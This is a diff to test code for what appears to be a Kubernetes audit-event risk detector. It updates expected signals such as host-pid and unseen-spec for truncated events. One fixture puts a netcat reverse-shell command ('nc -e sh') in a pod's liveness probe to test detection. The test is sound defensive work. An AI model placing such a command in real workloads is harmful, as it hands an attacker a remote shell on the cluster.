@@ -147,7 +147,7 @@ describe('what was not seen', () => {
   it('does not hide what is seen', () => {
     const event = atLevelMetadata(podCreated({ metadata: { namespace: 'kube-system' } }));
     const risk = riskOf(event);
-    assert.deepEqual([risk.signals.map(({ id }) => id), risk.confidence], [['system-namespace'], 'LOW']);
+    assert.deepEqual([risk.signals.map(({ id }) => id), risk.confidence], [['unseen-spec', 'system-namespace'], 'LOW']);
     assert.ok(!unassessed(risk).includes('system-namespace'));
   });
 
@@ -170,17 +170,17 @@ describe('what was not seen', () => {
     for (const { signals } of notAssessed) for (const id of signals) assert.ok(!idsOf(atLevelRequest(attack)).includes(id), id);
   });
 
-  it('is the owners that were cut: nobody is said to have made it by hand then', () => {
+  it('is the owners that were cut: that excuses nobody from having made it by hand', () => {
     const annotations = { 'audit.k8s.io/truncated': 'true', 'arrivals/cut': 'ownerReferences' };
     const risk = riskOf(podCreated({ spec: { hostPID: true }, event: { annotations } }));
-    assert.deepEqual([risk.signals.map(({ id }) => id), unassessed(risk)], [['host-pid'], ['host-access-by-hand', 'controller-style-name']]);
+    assert.deepEqual([risk.signals.map(({ id }) => id), unassessed(risk)], [['host-access-by-hand', 'host-pid'], ['contradicted-owner']]);
   });
 
   it('is a probe that was cut with what nobody shows', () => {
     const envFrom = Array.from({ length: 200 }, (_unused, i) => ({ configMapRef: { name: `settings-${String(i)}` } }));
     const bytes = bytesOf(podWith({ envFrom, livenessProbe: { exec: { command: ['nc', '-e', 'sh', 'h', '1'] } } }));
     const risk = riskOf(JSON.parse(cutEvent(bytes, 4000).toString()));
-    assert.deepEqual([risk.signals, unassessed(risk).includes('reverse-shell')], [[], true]);
+    assert.deepEqual([risk.signals.map(({ id }) => id), unassessed(risk).includes('reverse-shell')], [['unseen-spec'], true]);
   });
 
   it('of a request is still what the client sent', () => {
